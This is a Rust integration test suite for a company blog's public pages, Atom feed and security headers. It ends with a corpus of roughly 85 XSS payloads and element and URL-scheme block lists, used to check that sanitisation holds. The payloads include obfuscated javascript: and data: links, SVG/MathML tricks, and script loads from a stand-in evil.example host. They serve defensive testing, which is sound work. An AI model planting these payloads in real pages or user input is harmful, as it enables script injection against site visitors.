//! The public blog over real HTTP: pages, paging, departments, the Atom feed
//! (read back with an independent parser), the security headers, and an XSS
//! corpus that must not survive into any of them.

use scraper::{ElementRef, Html, Selector};
use serde_json::{Value, json};

use crate::db_test;
use crate::helpers::posts::home_department;
use crate::helpers::{Actor, TestApp};

const CSP: &str = "default-src 'none'; style-src 'self'; img-src 'self' https:; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
const PUBLIC_URL: &str = "https://news.example.com";

fn with_public_url(config: &mut synaps::config::Config) {
    config.public_url = format!("{PUBLIC_URL}/");
}

/// A fetched page.
struct Fetched {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: String,
}

impl Fetched {
    fn header(&self, name: &str) -> &str {
        self.headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
    }

    fn html(&self) -> Html {
        Html::parse_document(&self.body)
    }
}

impl TestApp {
    async fn fetch(&self, path: &str) -> Fetched {
        let response = self
            .client
            .get(self.url(path))
            .send()
            .await
            .expect("request sent");
        Fetched {
            status: response.status().as_u16(),
            headers: response.headers().clone(),
            body: response.text().await.expect("body"),
        }
    }

    /// `author` drafts a post in their home department with this title,
    /// excerpt and body; returns the post (id, slug, …).
    async fn draft_blog_post(
        &self,
        author: &Actor,
        title: &str,
        excerpt: &str,
        body: &str,
    ) -> Value {
        let department = self.department_id(home_department(author)).await;
        let response = self
            .gql(
                Some(author),
                "mutation($input: CreatePostDraftInput!) { createPostDraft(input: $input) { post { id slug status } } }",
                json!({ "input": { "title": title, "excerpt": excerpt, "body": body, "departmentId": department } }),
            )
            .await;
        response.data()["createPostDraft"]["post"].clone()
    }

    /// Takes a drafted post through the `steps` (mutation names), submitted
    /// by its author and reviewed by `reviewer`.
    async fn advance(
        &self,
        author: &Actor,
        reviewer: &Actor,
        post: &Value,
        steps: &[(&str, Value)],
    ) {
        let id = post["id"].as_str().expect("post id");
        for (mutation, input) in steps {
            let actor = if matches!(*mutation, "submitPost" | "withdrawPost") {
                author
            } else {
                reviewer
            };
            self.post_step_ok(actor, mutation, id, input.clone()).await;
        }
    }

    /// `author` writes a post that a reviewer publishes; returns its slug.
    async fn publish_as(&self, author: &Actor, title: &str, excerpt: &str, body: &str) -> String {
        let post = self.draft_blog_post(author, title, excerpt, body).await;
        let reviewer = if author.handle == self.comms().handle {
            self.admin().clone()
        } else {
            self.comms().clone()
        };
        self.advance(
            author,
            &reviewer,
            &post,
            &[
                ("submitPost", json!({})),
                ("approvePost", json!({})),
                ("publishPost", json!({})),
            ],
        )
        .await;
        post["slug"].as_str().expect("slug").to_owned()
    }

    async fn feed(&self) -> (Fetched, feed_rs::model::Feed) {
        let fetched = self.fetch("/blog/feed.atom").await;
        assert_eq!(fetched.status, 200, "{}", fetched.body);
        let feed = feed_rs::parser::parse(fetched.body.as_bytes())
            .unwrap_or_else(|e| panic!("the feed does not parse: {e}\n{}", fetched.body));
        (fetched, feed)
    }
}

fn select<'a>(html: &'a Html, css: &str) -> Vec<ElementRef<'a>> {
    let selector = Selector::parse(css).expect("selector");
    html.select(&selector).collect()
}

fn attr(html: &Html, css: &str, name: &str) -> Option<String> {
    select(html, css)
        .first()
        .and_then(|e| e.value().attr(name))
        .map(str::to_owned)
}

fn text(html: &Html, css: &str) -> Vec<String> {
    select(html, css)
        .iter()
        .map(|e| e.text().collect::<String>().trim().to_owned())
        .collect()
}

fn assert_html_page(page: &Fetched) {
    assert_eq!(page.status, 200, "{}", page.body);
    assert_eq!(page.header("content-type"), "text/html; charset=utf-8");
}

async fn the_index_lists_published_posts_newest_first_with_bylines(app: TestApp) {
    // Arrange
    let staff = app.staff().clone();
    let manager = app.manager().clone();
    app.publish_as(&staff, "Older story", "The older excerpt.", "Body one.")
        .await;
    app.publish_as(&manager, "Newer story", "The newer excerpt.", "Body two.")
        .await;

    // Act
    let page = app.fetch("/blog").await;

    // Assert
    assert_html_page(&page);
    let html = page.html();
    assert_eq!(text(&html, ".card-title"), ["Newer story", "Older story"]);
    let bylines = text(&html, ".byline-who");
    assert_eq!(
        bylines,
        ["Magnus Tester, Sales", "Stella Tester, Customer Service"]
    );
    assert!(text(&html, "title")[0].contains("Synaps Blog"));
    assert_eq!(
        attr(&html, "meta[property='og:type']", "content").as_deref(),
        Some("website")
    );
    assert_eq!(
        attr(&html, "link[rel='canonical']", "href").as_deref(),
        Some(format!("{PUBLIC_URL}/blog").as_str())
    );
    assert_eq!(
        attr(&html, "link[rel='alternate']", "type").as_deref(),
        Some("application/atom+xml")
    );
    assert!(attr(&html, "meta[name='description']", "content").is_some_and(|d| !d.is_empty()));
    assert!(select(&html, "script").is_empty());
}
db_test!(
    the_index_lists_published_posts_newest_first_with_bylines,
    with = with_public_url
);

async fn a_post_page_has_its_title_byline_tags_and_rendered_body(app: TestApp) {
    // Arrange
    let staff = app.staff().clone();
    let slug = app
        .publish_as(
            &staff,
            "What we learned in Q3",
            "Four thousand chats & three fixes.",
            "# Findings\n\nWe answered **4,000** chats.\n\n- one\n- two\n\n> A quote.\n\n[Our site](https://example.com)",
        )
        .await;

    // Act
    let page = app.fetch(&format!("/blog/{slug}")).await;

    // Assert
    assert_html_page(&page);
    let html = page.html();
    let url = format!("{PUBLIC_URL}/blog/{slug}");
    assert_eq!(text(&html, "h1"), ["What we learned in Q3"]);
    assert_eq!(
        text(&html, "title"),
        ["What we learned in Q3 · Synaps Blog"]
    );
    assert_eq!(
        text(&html, ".post-header .byline-who"),
        ["Stella Tester, Customer Service"]
    );
    assert!(select(&html, ".post-header time[datetime]").len() == 1);
    let meta = |css: &str| attr(&html, css, "content").unwrap_or_default();
    assert_eq!(
        meta("meta[name='description']"),
        "Four thousand chats & three fixes."
    );
    assert_eq!(meta("meta[property='og:title']"), "What we learned in Q3");
    assert_eq!(
        meta("meta[property='og:description']"),
        "Four thousand chats & three fixes."
    );
    assert_eq!(meta("meta[property='og:type']"), "article");
    assert_eq!(meta("meta[property='og:url']"), url);
    assert_eq!(meta("meta[property='article:section']"), "Customer Service");
    assert_eq!(
        attr(&html, "link[rel='canonical']", "href").as_deref(),
        Some(url.as_str())
    );
    assert_eq!(
        attr(
            &html,
            "link[rel='alternate'][type='application/atom+xml']",
            "href"
        )
        .as_deref(),
        Some(format!("{PUBLIC_URL}/blog/feed.atom").as_str())
    );
    // The body: rendered, headings below the title, links marked.
    assert!(page.body.contains("<strong>4,000</strong>"));
    assert_eq!(text(&html, ".prose h2"), ["Findings"]);
    assert_eq!(select(&html, ".prose li").len(), 2);
    assert_eq!(select(&html, ".prose blockquote").len(), 1);
    assert_eq!(
        attr(&html, ".prose a", "rel").as_deref(),
        Some("noopener noreferrer nofollow")
    );
    // Only public fields.
    assert!(!page.body.contains("stella@example.com"));
    assert!(select(&html, "script").is_empty());
    assert!(select(&html, "[style]").is_empty());
}
db_test!(
    a_post_page_has_its_title_byline_tags_and_rendered_body,
    with = with_public_url
);

async fn unpublished_posts_are_nowhere_on_the_blog(app: TestApp) {
    // Arrange: a post in every state but PUBLISHED, and one taken back.
    let staff = app.staff().clone();
    let comms = app.comms().clone();
    let far = (chrono::Utc::now() + chrono::Duration::days(30)).to_rfc3339();
    let plans: [(&str, Vec<(&str, Value)>); 6] = [
        ("Hidden draft", vec![]),
        ("Hidden in review", vec![("submitPost", json!({}))]),
        (
            "Hidden changes requested",
            vec![
                ("submitPost", json!({})),
                (
                    "requestPostChanges",
                    json!({ "comment": "Secret review comment" }),
                ),
            ],
        ),
        (
            "Hidden approved",
            vec![("submitPost", json!({})), ("approvePost", json!({}))],
        ),
        (
            "Hidden scheduled",
            vec![
                ("submitPost", json!({})),
                ("approvePost", json!({})),
                ("schedulePost", json!({ "publishAt": far })),
            ],
        ),
        (
            "Hidden rejected",
            vec![
                ("submitPost", json!({})),
                ("rejectPost", json!({ "reason": "Secret rejection reason" })),
            ],
        ),
    ];
    let mut slugs = Vec::new();
    for (title, steps) in plans {
        let post = app
            .draft_blog_post(&staff, title, "Hidden excerpt.", "Hidden body.")
            .await;
        app.advance(&staff, &comms, &post, &steps).await;
        slugs.push(post["slug"].as_str().expect("slug").to_owned());
    }
    let unpublished = app
        .publish_as(
            &staff,
            "Hidden unpublished",
            "Hidden excerpt.",
            "Hidden body.",
        )
        .await;
    let post_id = {
        let response = app
            .gql(
                Some(&staff),
                "query { myPosts(status: PUBLISHED) { edges { node { id } } } }",
                json!({}),
            )
            .await;
        response.data()["myPosts"]["edges"][0]["node"]["id"]
            .as_str()
            .expect("id")
            .to_owned()
    };
    app.post_step_ok(&comms, "unpublishPost", &post_id, json!({}))
        .await;
    slugs.push(unpublished);
    app.publish_as(&staff, "Visible story", "Visible excerpt.", "Visible body.")
        .await;

    // Act + Assert: each is a friendly 404 page.
    for slug in &slugs {
        let page = app.fetch(&format!("/blog/{slug}")).await;
        assert_eq!(page.status, 404, "{slug}");
        assert_eq!(page.header("content-type"), "text/html; charset=utf-8");
        assert!(
            page.body.contains("couldn’t find that page"),
            "{}",
            page.body
        );
        assert!(!page.body.contains("Hidden"), "{slug}: {}", page.body);
    }
    for path in ["/blog", "/blog/department/customer-service"] {
        let page = app.fetch(path).await;
        assert_html_page(&page);
        assert!(page.body.contains("Visible story"));
        assert!(!page.body.contains("Hidden"), "{path}: {}", page.body);
        assert!(!page.body.contains("Secret"), "{path}");
    }
    let (raw, feed) = app.feed().await;
    assert_eq!(feed.entries.len(), 1);
    assert!(!raw.body.contains("Hidden") && !raw.body.contains("Secret"));
    let public = app
        .gql(
            None,
            "query { publicPosts { edges { node { title } } } }",
            json!({}),
        )
        .await;
    assert_eq!(
        public.data()["publicPosts"]["edges"]
            .as_array()
            .map(Vec::len),
        Some(1)
    );
}
db_test!(unpublished_posts_are_nowhere_on_the_blog);

async fn department_pages_show_only_their_department(app: TestApp) {
    // Arrange
    let staff = app.staff().clone();
    let manager = app.manager().clone();
    app.publish_as(&staff, "From support", "Support excerpt.", "Body.")
        .await;
    app.publish_as(&manager, "From sales", "Sales excerpt.", "Body.")
        .await;

    // Act
    let sales = app.fetch("/blog/department/sales").await;
    let hr = app.fetch("/blog/department/hr").await;
    let unknown = app.fetch("/blog/department/no-such-team").await;
    let malformed = app.fetch("/blog/department/NOT%20A%20SLUG").await;

    // Assert
    assert_html_page(&sales);
    let html = sales.html();
    assert_eq!(text(&html, ".card-title"), ["From sales"]);
    assert_eq!(text(&html, "h1"), ["Sales"]);
    assert!(text(&html, "title")[0].starts_with("Sales · "));
    assert_eq!(
        text(&html, ".topics a[aria-current='page']"),
        ["Sales"],
        "the department is marked in the navigation"
    );
    // The navigation lists only departments that have published something.
    let nav = text(&html, ".topics a");
    assert_eq!(nav, ["All posts", "Customer Service", "Sales"]);
    // A department with nothing published yet is a page, not an error.
    assert_html_page(&hr);
    assert!(
        hr.html()
            .select(&Selector::parse(".card").expect("css"))
            .next()
            .is_none()
    );
    assert_eq!(unknown.status, 404);
    assert_eq!(malformed.status, 404);
}
db_test!(department_pages_show_only_their_department);

async fn the_index_pages_by_cursor_and_the_feed_holds_the_latest_twenty(app: TestApp) {
    // Arrange: 21 posts, published in order.
    let staff = app.staff().clone();
    for n in 1..=21 {
        app.publish_as(&staff, &format!("Story number {n:02}"), "Excerpt.", "Body.")
            .await;
    }

    // Act: walk the pages through their own links.
    let mut seen = Vec::new();
    let mut path = "/blog".to_owned();
    let mut pages = 0;
    loop {
        let page = app.fetch(&path).await;
        assert_html_page(&page);
        let html = page.html();
        let titles = text(&html, ".card-title");
        assert!(titles.len() <= 10);
        seen.extend(titles);
        pages += 1;
        if pages > 1 {
            let newer = attr(&html, ".pager-newer", "href").expect("a link to newer posts");
            // Going back gives the page before, exactly.
            let back = app.fetch(&newer).await;
            assert_eq!(text(&back.html(), ".card-title").len(), 10);
        }
        match attr(&html, ".pager-older", "href") {
            Some(next) => path = next,
            None => break,
        }
    }

    // Assert
    let expected: Vec<String> = (1..=21)
        .rev()
        .map(|n| format!("Story number {n:02}"))
        .collect();
    assert_eq!(pages, 3);
    assert_eq!(seen, expected);
    let (_, feed) = app.feed().await;
    let titles: Vec<String> = feed
        .entries
        .iter()
        .filter_map(|e| e.title.as_ref().map(|t| t.content.clone()))
        .collect();
    assert_eq!(titles, expected[..20]);
    let broken = app.fetch("/blog?after=not-a-cursor").await;
    assert_eq!(broken.status, 400);
    assert_eq!(broken.header("content-type"), "text/html; charset=utf-8");
}
db_test!(the_index_pages_by_cursor_and_the_feed_holds_the_latest_twenty);

async fn the_atom_feed_parses_with_the_right_entries(app: TestApp) {
    // Arrange
    let staff = app.staff().clone();
    let manager = app.manager().clone();
    let first = app
        .publish_as(
            &staff,
            "Support & <friends>",
            "Plain excerpt.",
            "Hello **world**.",
        )
        .await;
    let second = app
        .publish_as(&manager, "Sales news", "", "Sales *body*.")
        .await;

    // Act
    let (raw, feed) = app.feed().await;

    // Assert
    assert_eq!(
        raw.header("content-type"),
        "application/atom+xml; charset=utf-8"
    );
    assert_eq!(feed.feed_type, feed_rs::model::FeedType::Atom);
    assert_eq!(feed.id, format!("{PUBLIC_URL}/blog"));
    assert_eq!(
        feed.title.as_ref().map(|t| t.content.as_str()),
        Some("Synaps Blog")
    );
    assert!(feed.updated.is_some());
    assert!(
        feed.links.iter().any(|l| l.rel.as_deref() == Some("self")
            && l.href == format!("{PUBLIC_URL}/blog/feed.atom"))
    );
    assert_eq!(feed.entries.len(), 2);
    let [newest, oldest] = [&feed.entries[0], &feed.entries[1]];
    assert_eq!(
        newest.title.as_ref().map(|t| t.content.as_str()),
        Some("Sales news")
    );
    assert_eq!(
        oldest.title.as_ref().map(|t| t.content.as_str()),
        Some("Support & <friends>"),
        "titles are text, escaped once"
    );
    assert!(raw.body.contains("Support &amp; &lt;friends&gt;"));
    assert_eq!(oldest.links[0].href, format!("{PUBLIC_URL}/blog/{first}"));
    assert_eq!(newest.links[0].href, format!("{PUBLIC_URL}/blog/{second}"));
    assert_eq!(oldest.authors[0].name.as_deref(), Some("Stella Tester"));
    assert_eq!(newest.authors[0].name.as_deref(), Some("Magnus Tester"));
    assert!(oldest.authors[0].email.is_none());
    assert!(oldest.id.starts_with("urn:uuid:"));
    assert!(oldest.published.is_some() && oldest.updated.is_some());
    assert_eq!(
        oldest.summary.as_ref().map(|s| s.content.as_str()),
        Some("Plain excerpt.")
    );
    let content = oldest.content.as_ref().expect("content");
    assert_eq!(content.content_type.to_string(), "text/html");
    assert_eq!(
        content.body.as_deref().map(str::trim),
        Some("<p>Hello <strong>world</strong>.</p>")
    );
    // The HTML travels escaped, not as markup inside the XML.
    assert!(raw.body.contains("&lt;strong&gt;world&lt;/strong&gt;"));
    assert!(!raw.body.contains("stella@example.com"));
}
db_test!(
    the_atom_feed_parses_with_the_right_entries,
    with = with_public_url
);

async fn every_blog_response_carries_the_security_headers(app: TestApp) {
    // Arrange
    let staff = app.staff().clone();
    let slug = app.publish_as(&staff, "Headers", "Excerpt.", "Body.").await;

    // Act + Assert
    let paths = [
        "/blog".to_owned(),
        format!("/blog/{slug}"),
        "/blog/department/customer-service".to_owned(),
        "/blog/department/nope".to_owned(),
        "/blog/feed.atom".to_owned(),
        "/blog/static/style.css".to_owned(),
        "/blog/no-such-post".to_owned(),
        "/blog/deeper/unknown/path".to_owned(),
        "/blog?after=broken".to_owned(),
    ];
    for path in &paths {
        let page = app.fetch(path).await;
        assert_eq!(page.header("content-security-policy"), CSP, "{path}");
        assert_eq!(page.header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(
            page.header("referrer-policy"),
            "strict-origin-when-cross-origin",
            "{path}"
        );
        assert_eq!(
            page.header("cross-origin-opener-policy"),
            "same-origin",
            "{path}"
        );
        if page.header("content-type").starts_with("text/html") {
            let html = page.html();
            assert!(select(&html, "script").is_empty(), "{path}");
            assert!(
                select(&html, "style, [style]").is_empty(),
                "{path}: no inline styles"
            );
            assert!(!page.body.to_lowercase().contains("<script"), "{path}");
        }
    }
}
db_test!(every_blog_response_carries_the_security_headers);

async fn the_stylesheet_is_served_from_the_binary_and_cached(app: TestApp) {
    // Arrange
    let index = app.fetch("/blog").await;
    let href = attr(&index.html(), "link[rel='stylesheet']", "href").expect("stylesheet link");

    // Act
    let versioned = app.fetch(&href).await;
    let plain = app.fetch("/blog/static/style.css").await;

    // Assert
    assert!(href.starts_with("/blog/static/style.css?v="));
    assert_eq!(versioned.status, 200);
    assert_eq!(versioned.header("content-type"), "text/css; charset=utf-8");
    assert_eq!(
        versioned.header("cache-control"),
        "public, max-age=31536000, immutable"
    );
    assert!(versioned.body.contains("prefers-color-scheme: dark"));
    assert_eq!(plain.header("cache-control"), "public, max-age=300");
    assert_eq!(plain.body, versioned.body);
}
db_test!(the_stylesheet_is_served_from_the_binary_and_cached);

// ---------------------------------------------------------------------------
// The XSS corpus.

/// Payloads for post bodies: raw HTML, obfuscated URLs, SVG/MathML and
/// raw-text element tricks, malformed markup, markdown link tricks, entities.
const BODY_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" oNeRrOr=\"alert(1)\">",
    "<img src=x onerror=alert(1)",
    "<body onload=alert(1)>",
    "<div onclick=\"alert(1)\" onmouseover=alert(1)>click</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"javascript:alert(1)\">js</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">entity tab</a>",
    "<a href=\"jav\tascript:alert(1)\">raw tab</a>",
    "<a href=\"  javascript:alert(1)\">leading space</a>",
    "<a href=\"&#14;javascript:alert(1)\">leading control</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">decimal entities</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">hex entities</a>",
    "<a href=\"javascript&colon;alert(1)\">named entity</a>",
    "<a href=javascript:alert(1)>unquoted, unclosed",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">DATA</a>",
    "<a href=\"vbscript:msgbox(1)\">vbscript</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">inline style</p>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div><p>unclosed <b>tags <i>everywhere",
    "</div></article></main><script>alert(1)</script>",
    "[plain js](javascript:alert(1))",
    "[upper js](JAVASCRIPT:alert(1))",
    "[spaced js](<  javascript:alert(1)>)",
    "[entity js](java&#x09;script:alert(1))",
    "[colon js](javascript&#58;alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[reference][evil]\n\n[evil]: javascript:alert(1)",
    "[reference data][evil2]\n\n[evil2]: data:text/html,alert(1) \"title\"",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,alert(1)>",
    "![image](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://example.com/x.png)",
    "![x](https://example.com/x.png\"onerror=\"alert(1))",
    "[title trick](https://example.com \"a\\\" onmouseover=\\\"alert(1)\")",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
];

/// Payloads for titles and excerpts (single line, at most 200 characters).
const TEXT_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<style>*{display:none}</style>",
    "<object data=x></object><embed src=x>",
    "</title><script>alert(1)</script>",
    "&lt;b&gt;entities&lt;/b&gt; &amp; &#60;i&#62;",
    "<!-- unclosed comment",
    "<b onclick=alert(1)>unclosed",
];

/// Elements that must never reach a blog reader.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script", "svg", "math", "style", "iframe", "object", "embed", "form", "base", "noscript",
    "template", "textarea", "xmp", "frame", "frameset", "applet", "input", "button", "video",
    "audio", "source", "marquee",
];

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "cite",
    "srcset",
    "ping",
    "srcdoc",
];

/// Walks every element of `html` (a page or a fragment) and fails on a
/// forbidden element, an event-handler or style attribute, or a URL with a
/// scheme other than http, https or mailto.
#[track_caller]
fn assert_no_xss(where_: &str, html: &Html) {
    for element in html
        .root_element()
        .descendants()
        .filter_map(ElementRef::wrap)
    {
        let el = element.value();
        let name = el.name().to_ascii_lowercase();
        assert!(
            !FORBIDDEN_ELEMENTS.contains(&name.as_str()),
            "{where_}: <{name}> survived: {}",
            element.html()
        );
        if name == "meta" {
            assert!(
                el.attr("http-equiv").is_none(),
                "{where_}: {}",
                element.html()
            );
        }
        if name == "link" {
            let rel = el.attr("rel").unwrap_or_default();
            assert!(
                ["stylesheet", "canonical", "alternate"].contains(&rel),
                "{where_}: {}",
                element.html()
            );
            if rel == "stylesheet" {
                assert!(
                    el.attr("href")
                        .is_some_and(|h| h.starts_with("/blog/static/")),
                    "{where_}: {}",
                    element.html()
                );
            }
        }
        for (attr, value) in el.attrs() {
            let attr = attr.to_ascii_lowercase();
            assert!(
                !attr.starts_with("on"),
                "{where_}: event handler {attr} survived: {}",
                element.html()
            );
            assert!(
                attr != "style",
                "{where_}: inline style survived: {}",
                element.html()
            );
            if URL_ATTRIBUTES.contains(&attr.as_str()) {
                assert!(safe_url(value), "{where_}: {attr}={value:?} survived");
            }
        }
    }
}

/// A URL a browser would only follow to http, https or mailto (or within the
/// site), judged strictly: after dropping whitespace and control characters
/// and decoding percent-escapes, anything before a colon that precedes the
/// first `/`, `?` or `#` is a scheme.
fn safe_url(value: &str) -> bool {
    let mut decoded = Vec::new();
    let bytes = value.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match (bytes[i], bytes.get(i + 1..i + 3)) {
            (b'%', Some(hex))
                if u8::from_str_radix(std::str::from_utf8(hex).unwrap_or("zz"), 16).is_ok() =>
            {
                decoded.push(u8::from_str_radix(std::str::from_utf8(hex).unwrap(), 16).unwrap());
                i += 3;
            }
            (b, _) => {
                decoded.push(b);
                i += 1;
            }
        }
    }
    let normalized: String = String::from_utf8_lossy(&decoded)
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    match normalized.find(':') {
        Some(colon) if !normalized[..colon].contains(['/', '?', '#']) => {
            ["http", "https", "mailto"].contains(&&normalized[..colon])
        }
        _ => true,
    }
}

#[track_caller]
fn assert_no_script_text(where_: &str, raw: &str) {
    let lower = raw.to_ascii_lowercase();
    for needle in [
        "<script", "<svg", "<math", "<iframe", "<object", "<embed", "<style",
    ] {
        assert!(!lower.contains(needle), "{where_}: {needle} in {raw}");
    }
}

async fn no_xss_payload_survives_into_pages_feed_or_public_post(app: TestApp) {
    // Arrange: every body payload in every post; one text payload as each
    // post's title and another as its excerpt.
    let staff = app.staff().clone();
    let body = BODY_PAYLOADS
        .iter()
        .enumerate()
        .map(|(n, p)| format!("Case {n}:\n\n{p}\n\nafter case {n}."))
        .collect::<Vec<_>>()
        .join("\n\n");
    let mut posts = Vec::new();
    for (n, title) in TEXT_PAYLOADS.iter().enumerate() {
        let excerpt = TEXT_PAYLOADS[(n + 1) % TEXT_PAYLOADS.len()];
        let slug = app.publish_as(&staff, title, excerpt, &body).await;
        posts.push((slug, *title, excerpt));
    }

    // Act + Assert: the index and department pages.
    for path in ["/blog", "/blog/department/customer-service"] {
        let mut path = path.to_owned();
        let mut titles = Vec::new();
        loop {
            let page = app.fetch(&path).await;
            assert_html_page(&page);
            assert_no_script_text(&path, &page.body);
            let html = page.html();
            assert_no_xss(&path, &html);
            titles.extend(text(&html, ".card-title"));
            match attr(&html, ".pager-older", "href") {
                Some(next) => path = next,
                None => break,
            }
        }
        // Titles show as the text that was written, escaped in the markup.
        let mut expected: Vec<String> = TEXT_PAYLOADS.iter().map(|t| t.trim().to_owned()).collect();
        expected.reverse();
        assert_eq!(titles, expected);
    }

    // Each post's page, and publicPost.
    for (slug, title, excerpt) in &posts {
        let path = format!("/blog/{slug}");
        let page = app.fetch(&path).await;
        assert_html_page(&page);
        assert_no_script_text(&path, &page.body);
        let html = page.html();
        assert_no_xss(&path, &html);
        assert_eq!(text(&html, "h1"), [title.trim()], "{path}");
        assert_eq!(
            text(&html, "title"),
            [format!("{} · Synaps Blog", title.trim())]
        );
        assert_eq!(
            attr(&html, "meta[property='og:title']", "content").as_deref(),
            Some(title.trim())
        );
        assert_eq!(
            attr(&html, "meta[name='description']", "content").as_deref(),
            Some(excerpt.trim())
        );
        assert_eq!(text(&html, ".post-header .lede"), [excerpt.trim()]);
        // The body's text is there, its active parts are not.
        assert!(page.body.contains("after case 0."));
        assert!(
            page.body
                .contains(&format!("after case {}.", BODY_PAYLOADS.len() - 1))
        );

        let public = app
            .gql(
                None,
                "query($slug: String!) { publicPost(slug: $slug) { title excerpt bodyHtml } }",
                json!({ "slug": slug }),
            )
            .await;
        let public = &public.data()["publicPost"];
        let body_html = public["bodyHtml"].as_str().expect("bodyHtml");
        assert_no_script_text("publicPost.bodyHtml", body_html);
        assert_no_xss("publicPost.bodyHtml", &Html::parse_fragment(body_html));
        // Titles and excerpts are plain text in JSON: exactly what was
        // written, for the client to escape like any other text.
        assert_eq!(public["title"], title.trim());
        assert_eq!(public["excerpt"], excerpt.trim());
    }

    // The feed: parsed independently, every entry's HTML checked.
    let (raw, feed) = app.feed().await;
    assert_no_script_text("feed.atom", &raw.body);
    assert_eq!(feed.entries.len(), TEXT_PAYLOADS.len());
    for (entry, title) in feed.entries.iter().zip(TEXT_PAYLOADS.iter().rev()) {
        let entry_title = entry.title.as_ref().expect("title");
        assert_eq!(entry_title.content, title.trim(), "feed titles are text");
        assert_eq!(entry_title.content_type.to_string(), "text/plain");
        let content = entry
            .content
            .as_ref()
            .and_then(|c| c.body.as_deref())
            .expect("content");
        assert_no_script_text("feed entry", content);
        assert_no_xss("feed entry", &Html::parse_fragment(content));
        assert!(content.contains("after case 0."));
        for link in &entry.links {
            assert!(safe_url(&link.href), "feed link {}", link.href);
        }
    }
}
db_test!(no_xss_payload_survives_into_pages_feed_or_public_post);

#[test]
fn the_url_check_catches_obfuscated_schemes() {
    for bad in [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "jav\tascript:alert(1)",
        "\u{e}javascript:x",
        "data:text/html,x",
        "vbscript:x",
        "%20%20javascript:alert(1)",
        "%6Aavascript%3Aalert(1)",
    ] {
        assert!(!safe_url(bad), "{bad:?}");
    }
    for good in [
        "https://example.com/a:b",
        "mailto:x@example.com",
        "/blog/x",
        "#top",
        "x.png",
        "/path?q=a:b",
    ] {
        assert!(safe_url(good), "{good:?}");
    }
}
